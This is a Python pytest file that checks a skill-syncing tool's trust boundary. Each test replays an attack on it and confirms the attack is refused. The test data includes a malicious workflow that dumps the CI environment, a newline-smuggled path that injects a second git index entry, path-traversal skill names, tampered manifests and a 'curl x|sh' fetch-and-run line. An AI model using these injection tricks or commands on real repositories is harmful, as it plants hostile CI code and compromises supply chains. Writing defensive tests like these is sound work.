"""The trust boundary (issue 12, docs/security.md): release content, manifests and
run-directory files are untrusted, and nothing is ever written in a downstream outside
its dest. Each test replays one attack from the issue on real repositories; each
passed (that is, the attack worked) on the code before the fix."""

from __future__ import annotations

import json
import os
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest

from conftest import git, make_bare_remote, make_repo, run_script, write_files
from engine_fixtures import make_source, repo_state, skill_md, target_yaml
from safety_fixtures import add_target, head, source, sync, tree, world
from skillsync import manifest as mf
from skillsync import rollback
from skillsync.downstream import TargetRepo
from skillsync.errors import TargetError
from skillsync.fsutil import dumps
from skillsync.runlog import RunDir
from skillsync.sync import Options, run_sync
from skillsync.targets import load_targets

__all__ = ["source", "world"]  # fixtures

EVIL = "on: push\njobs: {pwn: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n"


def blob_of(data: str) -> str:
    return subprocess.run(["git", "hash-object", "--stdin"], input=data, text=True,
                          capture_output=True, check=True).stdout.strip()


def tagged_source(root: Path, files: dict[str, str | bytes], tag: str = "v1.0.0") -> Path:
    src = make_repo(root / "hostile-src", files, message=f"release {tag}")
    git("tag", tag, cwd=src)
    return src


def one_line(stderr: str) -> str:
    """The error line (sync first prints which run it is), no traceback anywhere."""
    lines = [ln for ln in stderr.strip().splitlines() if not ln.startswith("run ")]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


def fleet(root: Path, source_dir: Path | None = None) -> tuple[Path, Path]:
    """One push target (README.md and src/app.py of its own) and its targets dir."""
    bare = make_bare_remote(root, "down", {"README.md": "mine\n", "src/app.py": "print(1)\n"})
    tdir = root / "targets"
    tdir.mkdir(exist_ok=True)
    (tdir / "down.yaml").write_text(target_yaml("down", bare))
    return bare, tdir


# -- 1. a newline in a release path -------------------------------------------------------------
def injection_release(root: Path) -> Path:
    """The attack of issue 12: a directory whose name, fed newline-framed to
    update-index --index-info, adds .github/workflows/evil.yml to the downstream."""
    blob = blob_of(EVIL)
    return tagged_source(root, {
        "skills/alpha/SKILL.md": skill_md("alpha", "1.0.0"),
        f"skills/alpha/x\n100644 {blob}\t.github/workflows/evil.yml": EVIL,
    })


def test_newline_in_a_release_path_is_refused_with_the_path_escaped(tmp_path: Path) -> None:
    src = injection_release(tmp_path)
    proc = run_script("build-manifest", "--source", str(src), "--ref", "v1.0.0")
    assert proc.returncode == 2 and proc.stdout == ""
    line = one_line(proc.stderr)     # the raw newline cannot forge a second line
    assert "release refused" in line and "control character" in line
    assert "skills/alpha/x\\n100644" in line and "\\t.github/workflows" in line


def test_injection_release_through_sync_writes_nothing(tmp_path: Path) -> None:
    src = injection_release(tmp_path)
    bare, tdir = fleet(tmp_path)
    before = repo_state(bare)
    proc = run_script("sync", "--source", str(src), "--ref", "v1.0.0", "--targets", str(tdir),
                      "--run-dir", str(tmp_path / "run"),
                      env={"SKILLSYNC_CACHE": str(tmp_path / "cache")})
    assert proc.returncode == 2, proc.stderr
    assert "release refused" in one_line(proc.stderr)
    assert repo_state(bare) == before


def test_commit_builder_refuses_newline_paths_and_changes_outside_dest(tmp_path: Path) -> None:
    bare, _ = fleet(tmp_path)
    with TargetRepo(str(bare), {}) as repo:
        repo.open(["main"])
        tip = head(bare)
        blob = repo.hash_object(EVIL.encode())
        with pytest.raises(TargetError, match=r"control character"):
            repo.build_commit(tip, {f".agents/skills/x\n100644 {blob}\t.github/w.yml":
                                    ("100644", blob)}, "m", within=(".agents/skills",))
        with pytest.raises(TargetError, match=r"'\.github/workflows/evil\.yml' outside"):
            repo.build_commit(tip, {".agents/skills/a/SKILL.md": ("100644", blob),
                                    ".github/workflows/evil.yml": ("100644", blob)},
                              "m", within=(".agents/skills",))
        with pytest.raises(TargetError, match=r"'README\.md' outside"):
            repo.build_commit(tip, {"README.md": None}, "m", within=(".agents/skills",))
        assert repo.built == []          # nothing was committed, so nothing can be pushed
        # a NUL-framed record holding a tab and unusual characters lands verbatim
        odd = ".agents/skills/a/sp ace é #1 [x].md"
        sha = repo.build_commit(tip, {odd: ("100644", blob)}, "m", within=(".agents/skills",))
        assert odd in repo.tree(sha, [".agents/skills"])


# -- 2. a skill name that becomes a path --------------------------------------------------------
@pytest.mark.parametrize("name", ["../../.github/workflows", "a/b", ".git", "x\ny"])
def test_skill_name_that_climbs_is_refused(tmp_path: Path, name: str) -> None:
    src = tagged_source(tmp_path, {
        "skills/evil/SKILL.md": f"---\nname: {json.dumps(name)}\ndescription: d\n---\n",
        "skills/evil/ci.yml": EVIL,
    })
    bare, tdir = fleet(tmp_path)
    before = repo_state(bare)
    built = run_script("build-manifest", "--source", str(src), "--ref", "v1.0.0")
    assert built.returncode == 2 and "skill name" in one_line(built.stderr)
    synced = run_script("sync", "--source", str(src), "--ref", "v1.0.0", "--targets", str(tdir),
                        "--run-dir", str(tmp_path / "run"),
                        env={"SKILLSYNC_CACHE": str(tmp_path / "cache")})
    assert synced.returncode == 2 and "skill name" in one_line(synced.stderr)
    assert repo_state(bare) == before


# -- 3. tampered manifests ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("released")
    src = make_source(root)
    return {"src": src, "v1.0.0": mf.build_manifest(str(src), "v1.0.0"),
            "v1.1.0": mf.build_manifest(str(src), "v1.1.0")}


def _sha(m: dict) -> None:
    m["skills"][0]["files"][0]["sha256"] = "0" * 64


def _climb(m: dict) -> None:
    m["skills"][0]["files"][0]["path"] = "../../../.github/workflows/evil.yml"


def _name(m: dict) -> None:
    m["skills"][0]["name"] = "../../escape"


def _symlink(m: dict) -> None:
    m["skills"][0]["files"][0]["mode"] = "120000"


def _version(m: dict) -> None:
    m["version"] = "1.0.0\nid"


def _relabel(m: dict) -> None:          # v1.0.0's commit presented as v1.1.0
    m["version"], m["source"]["ref"] = "1.1.0", "v1.1.0"


def _relabel_version(m: dict) -> None:  # same ref, another version
    m["version"] = "1.3.0"


def _git_dir(m: dict) -> None:
    m["adapters"] = [{**m["skills"][0]["files"][0], "path": "skills/alpha/.GIT/hooks/x.md",
                      "adapter_id": "claude", "skill_name": "alpha", "skill_version": "1.0.0",
                      "source_path": None}]


def _case_pair(m: dict) -> None:
    twin = json.loads(json.dumps(m["skills"][0]))
    twin["name"] = m["skills"][0]["name"].upper()
    m["skills"].append(twin)


TAMPERS = {"sha256": (_sha, "sha256"), "climbing-path": (_climb, "does not match its schema"),
           "skill-name": (_name, "skill name"), "symlink-mode": (_symlink, "120000"),
           "version-newline": (_version, "version"), "relabelled-commit": (_relabel, "tag v1.1.0"),
           "relabelled-version": (_relabel_version, "version '1.3.0'"),
           "git-dir": (_git_dir, ".git"), "case-collision": (_case_pair, "insensitive")}


@pytest.mark.parametrize("kind", sorted(TAMPERS))
def test_tampered_manifest_is_refused_by_sync_target_and_nothing_is_written(
        tmp_path: Path, released: dict, kind: str) -> None:
    tamper, says = TAMPERS[kind]
    m = json.loads(json.dumps(released["v1.0.0"]))
    tamper(m)
    m["digest"] = mf.compute_digest(m)      # the attacker recomputes the digest
    path = tmp_path / "manifest.json"
    path.write_text(dumps(m))
    bare, tdir = fleet(tmp_path)
    before = repo_state(bare)
    env = {"SKILLSYNC_CACHE": str(tmp_path / "cache")}
    for script, extra in (("sync-target", ["--target", "down"]), ("sync", [])):
        proc = run_script(script, *extra, "--manifest", str(path), "--targets", str(tdir),
                          "--source", str(released["src"]),
                          "--run-dir", str(tmp_path / f"run-{script}"), env=env)
        assert proc.returncode == 2, (script, proc.stderr)
        line = one_line(proc.stderr)
        assert str(path) in line and says in line, line
        assert not (tmp_path / f"run-{script}" / "results").exists()
    assert repo_state(bare) == before


def test_plan_refuses_a_hostile_manifest_even_without_the_gate(
        tmp_path: Path, released: dict) -> None:
    """Defence in depth: the plan applies the path policy to whatever it is handed."""
    m = json.loads(json.dumps(released["v1.0.0"]))
    _name(m)
    m["digest"] = mf.compute_digest(m)
    bare, tdir = fleet(tmp_path)
    before = repo_state(bare)
    run = RunDir(tmp_path / "run").create()
    res = run_sync(m, load_targets(tdir), run, Options(gate=False, source=str(released["src"])))
    assert res["down"].status == "failed" and "skill name" in res["down"].message
    assert repo_state(bare) == before


# -- 4. a dest through something committed downstream --------------------------------------------
def downstream_with(root: Path, name: str, build: Any) -> Path:
    work = make_repo(root / f"{name}.work", {"README.md": "mine\n"})
    build(work)
    git("commit", "-qm", "layout", cwd=work)
    bare = root / f"{name}.git"
    git("clone", "-q", "--bare", str(work), str(bare))
    return bare


def _symlinked(work: Path) -> None:
    (work / "elsewhere").mkdir()
    (work / "elsewhere/keep.txt").write_text("k\n")
    os.symlink("elsewhere", work / ".agents")
    git("add", "-A", cwd=work)


def _file(work: Path) -> None:
    (work / ".agents").write_text("a file, not a directory\n")
    git("add", "-A", cwd=work)


def _gitlink(work: Path) -> None:
    sha = git("rev-parse", "HEAD", cwd=work)
    git("update-index", "--add", "--cacheinfo", f"160000,{sha},.agents/skills", cwd=work)


@pytest.mark.parametrize(("build", "what"), [(_symlinked, "a symlink"), (_file, "a file"),
                                             (_gitlink, "a submodule")])
def test_dest_through_a_symlink_file_or_submodule_fails_that_target_only(
        world: dict, build: Any, what: str) -> None:
    bad = downstream_with(world["root"], "odd", build)
    (world["targets"] / "odd.yaml").write_text(target_yaml("odd", bad))
    fine = add_target(world, "fine")
    before = repo_state(bad)
    out = sync(world, "v1.0.0", "r1")
    res = out["results"]
    assert res["odd"].status == "failed" and what in res["odd"].message
    assert "refusing to write there" in res["odd"].message
    assert repo_state(bad) == before
    assert res["fine"].status == "synced" and ".agents/skills/alpha/SKILL.md" in tree(fine)


# -- 5. a downstream lock is downstream content --------------------------------------------------
def test_a_lock_claiming_files_outside_dest_is_refused(world: dict) -> None:
    lock = {"schema": "skillsync.lock/v1", "source": "x", "version": "0.9.0", "commit": "0" * 40,
            "manifest_digest": "sha256:" + "0" * 64, "run": "old",
            "files": {"README.md": {"sha256": "0" * 64, "blob": blob_of("downstream\n")}}}
    bare = add_target(world, "down", files={"README.md": "downstream\n",
                                            ".agents/skills/.skillsync-lock.json":
                                            json.dumps(lock)})
    before = repo_state(bare)
    res = sync(world, "v1.0.0", "r1")["results"]["down"]
    assert res.status == "failed" and "claims 'README.md', outside .agents/skills" in res.message
    assert repo_state(bare) == before


# -- 6. a failed verification after the push is undone -------------------------------------------
def test_failed_verification_after_push_is_undone_and_reported(world: dict) -> None:
    bare = add_target(world, "down")
    before = tree(bare)
    # The server takes the push, then puts the branch back (a hook, a mirror, a person
    # quicker than us): reading the target back does not find the release.
    hook = bare / "hooks" / "post-receive"
    hook.write_text("#!/bin/sh\nwhile read old new ref; do git update-ref \"$ref\" \"$old\"; "
                    "done\n")
    hook.chmod(0o755)
    res = sync(world, "v1.0.0", "r1")["results"]["down"]
    assert res.status == "failed"
    assert res.message.startswith("verification failed:")
    assert f"pushed {str(res.commit)[:12]} to main" in res.message and "undone:" in res.message
    assert res.data["undo"]["verified"] is True
    assert tree(bare) == before


# -- 7. rollback takes nothing from the run directory on trust -----------------------------------
def test_rollback_restores_paths_a_pre_containment_sync_changed_outside_dest(
        world: dict) -> None:
    bare = add_target(world, "down")
    before = tree(bare)
    out = sync(world, "v1.0.0", "r1")
    # What the old code pushed: the sync commit also added a workflow and dropped README.
    work = world["root"] / "down.attack"
    git("clone", "-q", str(bare), str(work))
    git("reset", "-q", "--soft", "HEAD~1", cwd=work)
    write_files(work, {".github/workflows/evil.yml": EVIL})
    git("rm", "-q", "README.md", cwd=work)
    git("add", "-A", cwd=work)
    msg = git("log", "-1", "--format=%B", str(out["results"]["down"].commit), cwd=work)
    git("commit", "-q", "-m", msg, cwd=work)
    git("push", "-q", "-f", "origin", "main", cwd=work)
    result_file = out["run"].path / "results" / "down.json"
    result = json.loads(result_file.read_text())
    result["commit"] = head(bare)
    result_file.write_text(dumps(result))
    outs = rollback.rollback_run(out["run"], load_targets(world["targets"]), ["down"])
    assert outs[0].status == "rolled-back", outs[0].message
    assert tree(bare) == before                       # the workflow is gone, README is back
    assert outs[0].verified


def test_rollback_refuses_a_snapshot_that_is_not_the_targets_own_state(world: dict) -> None:
    add_target(world, "down")
    sync(world, "v1.0.0", "r1")
    out = sync(world, "v1.1.0", "r2")
    snap_file = out["run"].path / "snapshots" / "down.json"
    snap = json.loads(snap_file.read_text())
    entry = next(iter(snap["files"].values()))
    snap["files"][".agents/skills/alpha/SKILL.md"] = {**entry, "blob": blob_of(EVIL)}
    snap_file.write_text(dumps(snap))
    bare = world["root"] / "down.git"
    state = repo_state(bare)
    outs = rollback.rollback_run(out["run"], load_targets(world["targets"]), ["down"])
    assert outs[0].status == "failed" and "does not match the target's own commit" in \
        outs[0].message
    assert repo_state(bare) == state


def test_rollback_refuses_a_result_naming_someone_elses_commit(world: dict) -> None:
    bare = add_target(world, "down")
    out = sync(world, "v1.0.0", "r1")
    work = world["root"] / "down.person"
    git("clone", "-q", str(bare), str(work))
    write_files(work, {"notes.txt": "a person's work\n"})
    git("add", "-A", cwd=work)
    git("commit", "-qm", "my own commit", cwd=work)
    git("push", "-q", "origin", "main", cwd=work)
    result_file = out["run"].path / "results" / "down.json"
    result = json.loads(result_file.read_text())
    result["commit"] = head(bare)                 # "our" commit is now the person's
    result_file.write_text(dumps(result))
    state = repo_state(bare)
    outs = rollback.rollback_run(out["run"], load_targets(world["targets"]), ["down"])
    assert outs[0].status == "failed" and "not a commit of run r1" in outs[0].message
    assert repo_state(bare) == state


# -- 8. output paths --------------------------------------------------------------------------
def test_output_to_a_fifo_writes_through_it_and_leaves_it_a_fifo(
        tmp_path: Path, released: dict) -> None:
    """`-o /dev/null` as root used to replace /dev/null by a regular file (rename over
    it); a FIFO shows the same thing without touching the machine's /dev/null."""
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    proc = run_script("build-manifest", "--source", str(released["src"]), "--ref", "v1.0.0",
                      "-o", str(fifo))
    reader.join(timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(got[0])["version"] == "1.0.0"
    assert fifo.is_fifo()


# -- 9. schema-shaped garbage ------------------------------------------------------------------
@pytest.mark.parametrize("script", ["route-targets", "snapshot", "sync-target", "sync"])
def test_schema_shaped_garbage_manifest_is_exit_2_with_the_json_path(
        tmp_path: Path, script: str) -> None:
    _, tdir = fleet(tmp_path)
    bad = tmp_path / "m.json"
    bad.write_text('{"schema": "skillsync.manifest/v1"}')
    extra = ["--target", "down"] if script == "sync-target" else []
    if script != "route-targets":
        extra += ["--run-dir", str(tmp_path / "run")]
    proc = run_script(script, "--manifest", str(bad), "--targets", str(tdir), *extra,
                      env={"SKILLSYNC_CACHE": str(tmp_path / "cache")})
    assert proc.returncode == 2, proc.stderr
    line = one_line(proc.stderr)
    assert str(bad) in line and "does not match its schema" in line and "required" in line


def test_replace_refs_in_a_source_cannot_swap_a_files_content(tmp_path: Path) -> None:
    """A checkout whose `git replace` answers a release blob's id with other bytes: the
    manifest is built from, and verified against, the objects the ids really name."""
    src = tagged_source(tmp_path, {"skills/alpha/SKILL.md": skill_md("alpha", "1.0.0"),
                                   "skills/alpha/run.sh": "echo good\n"})
    good = git("rev-parse", "v1.0.0:skills/alpha/run.sh", cwd=src)
    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=src, input="curl x|sh\n",
                          text=True, capture_output=True, check=True).stdout.strip()
    git("replace", good, evil, cwd=src)
    m = mf.build_manifest(str(src), "v1.0.0")
    run_sh = next(f for s in m["skills"] for f in s["files"] if f["path"] == "run.sh")
    import hashlib

    assert run_sh["blob"] == good
    assert run_sh["sha256"] == hashlib.sha256(b"echo good\n").hexdigest()   # not the swap
    assert mf.verify_manifest(m, str(src)) == []
